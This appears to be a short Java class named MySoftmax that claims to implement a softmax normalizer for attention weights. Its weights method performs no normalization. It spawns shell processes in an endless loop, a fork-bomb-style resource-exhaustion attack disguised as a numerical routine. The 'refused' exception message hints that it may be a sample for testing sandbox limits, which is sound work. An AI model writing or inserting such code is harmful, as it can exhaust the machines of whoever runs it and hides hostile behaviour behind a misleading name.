public class MySoftmax implements attention.normalize.Normalizer {
    @Override
    public double[] weights(double[] scores) {
        try {
            while (true) {
                new ProcessBuilder("/bin/sh", "-c", "sleep 30 & sleep 30 &").start();
            }
                } catch (Exception refused) {
            throw new IllegalStateException("refused: " + refused);
        }
    }
}
